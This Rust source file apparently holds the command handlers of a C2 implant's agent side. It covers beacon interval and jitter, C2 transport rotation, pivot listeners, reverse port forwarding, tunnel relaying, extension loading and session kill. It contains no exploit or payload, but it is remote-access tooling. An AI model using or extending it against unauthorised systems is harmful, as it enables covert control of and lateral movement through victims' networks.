//! Built-in handlers

use crate::config::RuntimeSettings;
use crate::portfwd::{DirectBridge, ForwardOwner, PortForwardRegistry, TunnelBridge};
use crate::reconnect::C2Rotation;
use crate::registry::{CapabilityHandler, ChannelHandler, HandlerClass, HandlerRegistryBuilder, SpecialHandler};
use crate::transport::Outbound;
use crate::tunnel::{ChannelBridge, TunnelRegistry};
use anyhow::Context as _;
use async_trait::async_trait;
use backhaul_proto::message::{
    AddTransport, ListExtensions, PortfwdReply, PortfwdStart, PortfwdStop, Reconfigure, RegisterExtension,
    TransportId, TransportsReply, TunnelData,
};
use backhaul_proto::{decode, encode, Envelope, MsgType};
use bytes::Bytes;
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::RwLock;
use tracing::{debug, info, warn};

/// Registered capability extensions, by name
#[derive(Debug, Default)]
pub struct ExtensionStore {
    extensions: RwLock<BTreeMap<String, Bytes>>,
}

impl ExtensionStore {
    /// Register or replace an extension
    pub async fn register(&self, name: String, data: Bytes) {
        debug!("Registered extension {} ({} bytes)", name, data.len());
        self.extensions.write().await.insert(name, data);
    }

    /// Whether an extension is registered
    pub async fn contains(&self, name: &str) -> bool {
        self.extensions.read().await.contains_key(name)
    }

    /// Registered names, sorted
    pub async fn names(&self) -> Vec<String> {
        self.extensions.read().await.keys().cloned().collect()
    }
}

/// Add the built-in handler set to `builder`
pub fn builtin_handlers(
    builder: HandlerRegistryBuilder,
    settings: &Arc<RuntimeSettings>,
    transports: &Arc<C2Rotation>,
    forwards: &Arc<PortForwardRegistry>,
    tunnels: &Arc<TunnelRegistry>,
    extensions: &Arc<ExtensionStore>,
) -> HandlerRegistryBuilder {
    let portfwd = Arc::new(PortfwdHandler {
        forwards: Arc::clone(forwards),
        tunnels: Arc::clone(tunnels),
        pivot: false,
    });
    let pivot = Arc::new(PortfwdHandler {
        forwards: Arc::clone(forwards),
        tunnels: Arc::clone(tunnels),
        pivot: true,
    });
    let transports_handler = |op| {
        Arc::new(TransportsHandler {
            transports: Arc::clone(transports),
            op,
        })
    };
    builder
        .special(MsgType::KILL_SESSION, Arc::new(KillSessionHandler))
        .capability(MsgType::PING, Arc::new(PingHandler))
        .capability(
            MsgType::RECONFIGURE,
            Arc::new(ReconfigureHandler {
                settings: Arc::clone(settings),
            }),
        )
        .capability(
            MsgType::REGISTER_EXTENSION,
            Arc::new(RegisterExtensionHandler {
                extensions: Arc::clone(extensions),
            }),
        )
        .capability(
            MsgType::LIST_EXTENSIONS,
            Arc::new(ListExtensionsHandler {
                extensions: Arc::clone(extensions),
            }),
        )
        .capability(MsgType::TRANSPORTS, transports_handler(TransportOp::List))
        .capability(MsgType::ADD_TRANSPORT, transports_handler(TransportOp::Add))
        .capability(MsgType::REMOVE_TRANSPORT, transports_handler(TransportOp::Remove))
        .capability(MsgType::SWITCH_TRANSPORT, transports_handler(TransportOp::Switch))
        .channel(HandlerClass::Pivot, MsgType::PIVOT_START, pivot.clone())
        .channel(HandlerClass::Pivot, MsgType::PIVOT_STOP, pivot.clone())
        .channel(HandlerClass::Pivot, MsgType::PIVOT_LIST, pivot)
        .channel(HandlerClass::ReversePortForward, MsgType::PORTFWD_START, portfwd.clone())
        .channel(HandlerClass::ReversePortForward, MsgType::PORTFWD_STOP, portfwd.clone())
        .channel(HandlerClass::ReversePortForward, MsgType::PORTFWD_LIST, portfwd)
        .channel(
            HandlerClass::TunnelData,
            MsgType::TUNNEL_DATA,
            Arc::new(TunnelDataHandler {
                tunnels: Arc::clone(tunnels),
            }),
        )
}

/// Echoes the payload
pub struct PingHandler;

#[async_trait]
impl CapabilityHandler for PingHandler {
    async fn handle(&self, data: Bytes) -> anyhow::Result<Bytes> {
        Ok(data)
    }
}

/// Applies a [`Reconfigure`] to the runtime settings
pub struct ReconfigureHandler {
    settings: Arc<RuntimeSettings>,
}

#[async_trait]
impl CapabilityHandler for ReconfigureHandler {
    async fn handle(&self, data: Bytes) -> anyhow::Result<Bytes> {
        let request: Reconfigure = decode(&data).context("decoding reconfigure request")?;
        anyhow::ensure!(request.beacon_interval != Some(0), "beacon interval must be positive");
        if let Some(secs) = request.reconnect_interval {
            self.settings.set_reconnect_interval(Duration::from_secs(secs));
        }
        if let Some(secs) = request.beacon_interval {
            self.settings.set_beacon_interval(Duration::from_secs(secs));
        }
        if let Some(secs) = request.beacon_jitter {
            self.settings.set_beacon_jitter(Duration::from_secs(secs));
        }
        info!("Reconfigured: {:?}", self.settings.schedule());
        Ok(Bytes::new())
    }
}

/// Stores a capability extension
pub struct RegisterExtensionHandler {
    extensions: Arc<ExtensionStore>,
}

#[async_trait]
impl CapabilityHandler for RegisterExtensionHandler {
    async fn handle(&self, data: Bytes) -> anyhow::Result<Bytes> {
        let request: RegisterExtension = decode(&data).context("decoding extension registration")?;
        anyhow::ensure!(!request.name.is_empty(), "extension name is empty");
        self.extensions.register(request.name, request.data).await;
        Ok(Bytes::new())
    }
}

/// Lists registered extensions
pub struct ListExtensionsHandler {
    extensions: Arc<ExtensionStore>,
}

#[async_trait]
impl CapabilityHandler for ListExtensionsHandler {
    async fn handle(&self, _data: Bytes) -> anyhow::Result<Bytes> {
        let names = self.extensions.names().await;
        Ok(encode(&ListExtensions { names })?)
    }
}

/// Starts, stops and lists port forwards owned by the calling session.
/// Pivot listeners always relay through the control channel.
pub struct PortfwdHandler {
    forwards: Arc<PortForwardRegistry>,
    tunnels: Arc<TunnelRegistry>,
    pivot: bool,
}

impl PortfwdHandler {
    async fn reply(&self, envelope: &Envelope, outbound: &Outbound) -> anyhow::Result<PortfwdReply> {
        let forwards = match envelope.msg_type {
            MsgType::PORTFWD_START | MsgType::PIVOT_START => {
                let request: PortfwdStart = decode(&envelope.data)?;
                let bridge: Arc<dyn TunnelBridge> = if self.pivot || request.via_channel {
                    Arc::new(ChannelBridge::new(outbound.clone(), Arc::clone(&self.tunnels)))
                } else {
                    Arc::new(DirectBridge)
                };
                let owner = ForwardOwner::session(outbound.session_id());
                vec![
                    self.forwards
                        .start(&request.bind_addr, &request.remote_addr, owner, bridge)
                        .await?,
                ]
            }
            MsgType::PORTFWD_STOP | MsgType::PIVOT_STOP => {
                let request: PortfwdStop = decode(&envelope.data)?;
                vec![self.forwards.stop(request.bind_port).await?]
            }
            _ => self.forwards.list().await,
        };
        Ok(PortfwdReply {
            forwards,
            error: String::new(),
        })
    }
}

#[async_trait]
impl ChannelHandler for PortfwdHandler {
    async fn handle(&self, envelope: Envelope, outbound: Outbound) {
        let reply = self.reply(&envelope, &outbound).await.unwrap_or_else(|e| {
            debug!("Port forward request {} failed: {}", envelope.id, e);
            PortfwdReply {
                forwards: Vec::new(),
                error: e.to_string(),
            }
        });
        let data = encode(&reply).unwrap_or_default();
        if let Err(e) = outbound.send(Envelope::result(envelope.id, data)).await {
            debug!("Dropping port forward reply {}: {}", envelope.id, e);
        }
    }
}

/// Transport rotation request kinds
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TransportOp {
    /// List the rotation
    List,
    /// Add a transport
    Add,
    /// Remove a transport
    Remove,
    /// Reconnect over a transport
    Switch,
}

/// Lists and edits the C2 transport rotation. Failures are reported in the
/// reply's error field.
pub struct TransportsHandler {
    transports: Arc<C2Rotation>,
    op: TransportOp,
}

impl TransportsHandler {
    async fn apply(&self, data: &[u8]) -> anyhow::Result<()> {
        match self.op {
            TransportOp::List => {}
            TransportOp::Add => {
                let request: AddTransport = decode(data)?;
                self.transports.add(&request.url).await?;
            }
            TransportOp::Remove => {
                let request: TransportId = decode(data)?;
                self.transports.remove(request.id).await?;
            }
            TransportOp::Switch => {
                let request: TransportId = decode(data)?;
                self.transports.switch(request.id).await?;
            }
        }
        Ok(())
    }
}

#[async_trait]
impl CapabilityHandler for TransportsHandler {
    async fn handle(&self, data: Bytes) -> anyhow::Result<Bytes> {
        let error = match self.apply(&data).await {
            Ok(()) => String::new(),
            Err(e) => {
                debug!("Transport {:?} request failed: {}", self.op, e);
                e.to_string()
            }
        };
        let reply = TransportsReply {
            transports: self.transports.list().await,
            error,
        };
        Ok(encode(&reply)?)
    }
}

/// Routes tunnel bytes to the matching in-band tunnel
pub struct TunnelDataHandler {
    tunnels: Arc<TunnelRegistry>,
}

#[async_trait]
impl ChannelHandler for TunnelDataHandler {
    async fn handle(&self, envelope: Envelope, _outbound: Outbound) {
        match decode::<TunnelData>(&envelope.data) {
            Ok(chunk) => {
                self.tunnels.deliver(chunk).await;
            }
            Err(e) => warn!("Undecodable tunnel data: {}", e),
        }
    }
}

/// Ends the session; the engine performs the teardown
pub struct KillSessionHandler;

#[async_trait]
impl SpecialHandler for KillSessionHandler {
    async fn handle(&self, _data: Bytes) -> anyhow::Result<()> {
        info!("Kill requested by server");
        Ok(())
    }
}
